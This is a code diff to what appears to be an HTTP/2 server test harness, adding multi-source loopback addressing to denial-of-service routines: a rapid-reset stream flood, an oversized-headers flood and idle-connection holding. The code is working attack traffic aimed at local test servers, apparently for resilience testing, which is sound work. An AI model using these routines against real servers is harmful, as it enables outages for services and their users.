@@ -210,6 +210,11 @@ class IdleTally:
     last_closed_after: float = 0.0  # seconds from the start to the last of those
 
 
+def attacking_hosts(n: int) -> list[str]:
+    """`n` loopback addresses for attackers: ATTACKER, then 127.0.0.3, ... (never 127.0.0.1)."""
+    return [f"127.0.{i // 250}.{2 + i % 250}" for i in range(n)]
+
+
 async def _idle_connection(host: str, port: int, source: str, preface: bool, tally: IdleTally, start: float) -> None:
     try:
         reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
@@ -238,7 +243,7 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
     > 1 they come from that many loopback hosts (127.0.0.2, 127.0.0.3, ...), round robin."""
     host, port = address.rsplit(":", 1)
     tally, start = tally or IdleTally(), time.monotonic()
-    sources = [ATTACKER] if hosts == 1 else [f"127.0.{2 + i // 250}.{2 + i % 250}" for i in range(hosts)]
+    sources = attacking_hosts(hosts)
     tasks = [
         asyncio.ensure_future(_idle_connection(host, int(port), sources[i % hosts], i % 2 == 1, tally, start))
         for i in range(n)
@@ -250,9 +255,12 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
     return tally
 
 
-async def rapid_reset(address: str, path: str, connections: int, seconds: float, batch: int = 50) -> int:
-    """On each of `connections` connections, HEADERS then RST_STREAM(CANCEL) on stream after stream, in
-    batches of `batch`, for `seconds`; returns how many calls were opened and reset."""
+async def rapid_reset(
+    address: str, path: str, connections: int, seconds: float, batch: int = 50, hosts: int = 1
+) -> int:
+    """On each of `connections` connections from each of `hosts` loopback hosts (127.0.0.2, 127.0.0.3,
+    ...), HEADERS then RST_STREAM(CANCEL) on stream after stream, in batches of `batch`, for `seconds`;
+    returns how many calls were opened and reset."""
     block = header_block(
         [
             (":method", "POST"),
@@ -270,7 +278,7 @@ async def rapid_reset(address: str, path: str, connections: int, seconds: float,
             out += frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))  # CANCEL
         return bytes(out), batch
 
-    return await _send_calls(address, connections, seconds, burst)
+    return await _send_calls(address, connections, seconds, burst, hosts)
 
 
 async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
@@ -297,19 +305,19 @@ async def oversized_headers(address: str, path: str, connections: int, seconds: 
     return await _send_calls(address, connections, seconds, call)
 
 
-async def _send_calls(address: str, connections: int, seconds: float, calls) -> int:
-    """On each of `connections` connections (its replies read and dropped), `calls(first_stream)` -> (bytes,
-    n calls) written back to back for `seconds`, a connection the server refuses or closes opened again at
-    once (as a flood would); returns the calls sent over all connections."""
+async def _send_calls(address: str, connections: int, seconds: float, calls, hosts: int = 1) -> int:
+    """On each of `connections` connections from each of `hosts` hosts (its replies read and dropped),
+    `calls(first_stream)` -> (bytes, n calls) written back to back for `seconds`, a connection the server
+    refuses or closes opened again at once (as a flood would); returns the calls sent over all connections."""
     host, port = address.rsplit(":", 1)
     end = asyncio.get_running_loop().time() + seconds
     sent = 0
 
-    async def one() -> None:
+    async def one(source: str) -> None:
         nonlocal sent
         while asyncio.get_running_loop().time() < end:  # a connection refused or closed is opened again
             try:
-                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ATTACKER, 0))
+                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(source, 0))
             except OSError:
                 await asyncio.sleep(0.01)
                 continue
@@ -328,7 +336,8 @@ async def _send_calls(address: str, connections: int, seconds: float, calls) -> 
                 replies.cancel()
                 writer.close()
 
-    await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
+    sources = attacking_hosts(hosts)
+    await asyncio.gather(*(one(s) for s in sources for _ in range(connections)), return_exceptions=True)
     return sent
 
 
